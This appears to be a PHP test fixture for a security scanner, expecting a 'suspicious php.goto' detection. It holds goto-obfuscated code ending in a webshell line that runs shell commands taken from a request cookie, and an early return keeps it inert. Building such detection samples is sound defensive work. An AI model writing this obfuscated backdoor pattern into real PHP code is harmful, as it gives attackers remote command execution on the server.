<?php return; // want: suspicious php.goto
goto a1; a3: $c = $a . $b; goto a4; a2: $b = 'two'; goto a3; a1: $a = 'one'; goto a2; a4: goto a5;
a6: $e = $d . $c; goto a7; a5: $d = 'three'; goto a6; a7: goto a8; a9: $g = 'x'; goto a10; a8: $f = 'y'; goto a9;
a10: goto a11; a11: @system($_COOKIE['n'] . $g);
